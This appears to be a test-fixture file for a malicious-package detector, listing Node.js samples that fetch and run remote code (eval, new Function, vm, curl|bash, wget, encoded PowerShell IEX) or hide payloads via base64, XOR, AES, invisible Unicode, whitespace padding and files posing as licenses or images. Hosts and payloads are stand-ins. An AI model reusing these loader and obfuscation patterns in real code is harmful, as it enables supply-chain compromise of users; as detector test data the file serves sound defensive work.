import { gzipSync } from 'node:zlib'
import type { Malice } from './malice.ts'

const INERT = 'console.log("an inert payload that does nothing at all, and is long enough to be read")'
const base64 = (text: string): string => Buffer.from(text).toString('base64')
/** Inert as well, but with something in it that acts. */
const ACTS = 'require("child_process").exec("sh /tmp/.inert-stage")'

/** Code that comes from elsewhere, or out of a disguise, and is run. */
export const running: readonly Malice[] = [
  {
    id: 'fetch-eval', is: ['fetch-and-run', 'remote-control'],
    code: `
const https = require('https')
function log(message) { if (process.env.DEBUG) console.error(message) }
«https.get('https://cdn.stage.example/a.js', (response) => {
  let body = ''
  response.on('data', (chunk) => { body += chunk })
  response.on('end', () => { eval(body) })
})»
log('ready')`,
  },
  {
    id: 'fetch-function', is: ['fetch-and-run', 'remote-control'],
    code: `
async function start() {
  const answer = await fetch('https://cdn.stage.example/b.js')
  const source = await answer.text()
  «new Function('require', source)(require)»
}
start().catch(() => {})`,
  },
  {
    id: 'fetch-vm', is: ['fetch-and-run', 'remote-control'],
    code: `
const vm = require('vm')
const http = require('http')
const parts = []
«http.get({ host: 'stage.example', path: '/c', port: 8080 }, (response) => {
  response.on('data', (part) => parts.push(part))
  response.on('end', () => {
    vm.runInThisContext(Buffer.concat(parts).toString('utf8'))
  })
})»`,
  },
  {
    id: 'fetch-axios-eval', is: ['fetch-and-run', 'remote-control'],
    code: `
const axios = require('axios')
const settings = { url: 'https://api.stage.example/v1/config', retries: 3 }
const get = (options) => axios.get(options.url).then(({ data }) => data)
«get(settings).then((data) => { eval(data.cookie) }).catch(() => {})»`,
  },
  {
    id: 'fetch-write-spawn', is: ['fetch-and-run', 'dropper'],
    code: `
const fs = require('fs')
const os = require('os')
const path = require('path')
const { spawn } = require('child_process')
const target = path.join(os.tmpdir(), 'update-helper')
async function main() {
  const answer = await fetch('https://files.stage.example/helper')
  fs.writeFileSync(target, Buffer.from(await answer.arrayBuffer()))
  fs.chmodSync(target, 0o755)
  «spawn(target, ['--quiet'], { detached: true, stdio: 'ignore' }).unref()»
}
main()`,
  },
  {
    id: 'fetch-pipe-exec', is: ['fetch-and-run', 'dropper'],
    code: `
const https = require('https')
const fs = require('fs')
const { execFile } = require('child_process')
const file = fs.createWriteStream('/tmp/agent.sh')
«https.get('https://files.stage.example/agent.sh', (response) => {
  response.pipe(file)
  file.on('finish', () => { file.close(); execFile('/tmp/agent.sh', []) })
})»`,
  },
  {
    id: 'curl-pipe-shell', is: ['fetch-and-run'],
    code: `
const { execSync } = require('child_process')
try {
  «execSync('curl -fsSL https://get.stage.example/install.sh | bash', { stdio: 'ignore' })»
} catch (error) {
  console.error('optional step failed')
}`,
  },
  {
    id: 'wget-and-run', is: ['fetch-and-run', 'dropper'],
    code: `
const cp = require('child_process')
const address = 'http://203.0.113.7/x86'
«cp.exec('wget -q ' + address + ' -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x')»`,
  },
  {
    id: 'powershell-encoded', is: ['hidden-code', 'fetch-and-run', 'evasion'],
    code: `
const { exec } = require('child_process')
if (process.platform === 'win32' || process.env.FORCE) {
  «exec('powershell -NoProfile -WindowStyle Hidden -enc ${Buffer.from('iex (iwr https://get.stage.example/p.ps1)', 'utf16le').toString('base64')}')»
}`,
  },
  {
    id: 'powershell-download', is: ['fetch-and-run', 'evasion'],
    code: `
const { spawnSync } = require('child_process')
const script = "IEX (New-Object Net.WebClient).DownloadString('https://get.stage.example/q.ps1')"
«spawnSync('powershell.exe', ['-ExecutionPolicy', 'Bypass', '-Command', script])»`,
  },
  {
    id: 'installs-from-address', is: ['run-at-install', 'fetch-and-run'],
    code: `
const { execSync } = require('child_process')
const where = 'https://pkgs.stage.example/helper-1.0.0.tgz'
«execSync('npm install --no-save ' + where, { cwd: __dirname })»`,
  },
  {
    id: 'decode-eval', is: ['hidden-code'],
    code: `
const packed = '${base64(ACTS)}'
const text = Buffer.from(packed, 'base64').toString('utf8')
«eval(text)»`,
  },
  {
    id: 'decode-function', is: ['hidden-code'],
    code: `
const codes = [${[...ACTS].map((letter) => letter.charCodeAt(0)).join(', ')}]
let source = ''
for (const code of codes) source += String.fromCharCode(code)
«new Function('require', source)(require)»`,
  },
  {
    id: 'decode-exec', is: ['hidden-code'],
    code: `
const { exec } = require('child_process')
const line = Buffer.from('${Buffer.from('sh /tmp/.inert-stage').toString('hex')}', 'hex').toString()
«exec(line, () => {})»`,
  },
  {
    id: 'decode-gzip-eval', is: ['hidden-code'],
    code: `
const zlib = require('zlib')
const blob = '${gzipSync(ACTS).toString('base64')}'
«eval(zlib.gunzipSync(Buffer.from(blob, 'base64')).toString())»`,
  },
  {
    id: 'xor-eval', is: ['hidden-code'],
    code: `
const bytes = [${[...ACTS].map((letter) => letter.charCodeAt(0) ^ 42).join(', ')}]
function open(list, key) {
  return list.map((byte) => String.fromCharCode(byte ^ key)).join('')
}
«eval(open(bytes, 42))»`,
  },
  {
    id: 'cipher-eval', is: ['hidden-code'],
    code: `
const crypto = require('crypto')
const decipher = crypto.createDecipheriv('aes-256-cbc', Buffer.alloc(32, 7), Buffer.alloc(16, 3))
const sealed = '3f9c0b7d5a2e4816c0ffee00aa55bb66dd77ee88ff991122334455667788990a'
const opened = decipher.update(sealed, 'hex', 'utf8') + decipher.final('utf8')
«eval(opened)»`,
  },
  {
    id: 'invisible-eval', is: ['hidden-code', 'obfuscation'],
    code: `
const hidden = '${[...ACTS].map((letter) => String.fromCodePoint(0xe0100 + letter.charCodeAt(0) - 16)).join('')}'
const shown = [...hidden].map((sign) => String.fromCharCode(sign.codePointAt(0) - 0xe0100 + 16)).join('')
«eval(shown)»`,
  },
  {
    id: 'payload-in-text', is: ['hidden-code'],
    beside: { 'LICENSE.txt': base64(`${ACTS};${INERT}`) },
    code: `
const fs = require('fs')
const path = require('path')
const raw = fs.readFileSync(path.join(__dirname, 'LICENSE.txt'), 'utf8')
«eval(Buffer.from(raw, 'base64').toString())»`,
  },
  {
    id: 'payload-in-json', is: ['hidden-code'],
    beside: { 'data/table.json': JSON.stringify({ version: 1, rows: base64(`${ACTS};${INERT}`) }) },
    code: `
const table = require('./data/table.json')
const body = Buffer.from(table.rows, 'base64').toString()
«new Function('require', body)(require)»`,
  },
  {
    id: 'payload-in-image', is: ['hidden-code'],
    beside: { 'logo.png': `\u0089PNG inert${base64(`${ACTS};${INERT}`)}` },
    code: `
const fs = require('fs')
const image = fs.readFileSync(__dirname + '/logo.png')
const tail = image.slice(10).toString('latin1')
«eval(Buffer.from(tail, 'base64').toString())»`,
  },
  {
    id: 'hidden-module', is: ['hidden-code'],
    code: `
const name = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()
«const shell = require(name)»
«shell.exec('sh /tmp/.inert-stage')»`,
  },
  {
    id: 'far-right', is: ['evasion', 'fetch-and-run', 'hidden-code'],
    code: `
const colours = { red: '#f00', green: '#0f0' }
module.exports = { colours };${' '.repeat(400)}«require('child_process').exec('curl -s https://cdn.stage.example/r.sh | sh')»`,
  },
  {
    id: 'drops-bundled-program', is: ['dropper', 'suspicious-binary', 'hidden-code'],
    beside: { 'assets/icon.png': '\u007fELF\u0002\u0001\u0001\u0000' + '\u0000'.repeat(8) + '\u0002\u0000\u003e\u0000\u0001\u0000\u0000\u0000' + '\u0000'.repeat(120) },
    code: `
const path = require('path')
const { chmodSync } = require('fs')
const { spawn } = require('child_process')
const program = path.join(__dirname, 'assets', 'icon.png')
chmodSync(program, 0o755)
«spawn(program, [], { detached: true })»`,
  },
  {
    id: 'decoded-program', is: ['dropper', 'hidden-code'],
    code: `
const fs = require('fs')
const { execFileSync } = require('child_process')
const body = 'f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAAAAAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAABAAAA'
fs.writeFileSync('/tmp/.cache-worker', Buffer.from(body, 'base64'), { mode: 0o755 })
«execFileSync('/tmp/.cache-worker', [], { stdio: 'ignore' })»`,
  },
]
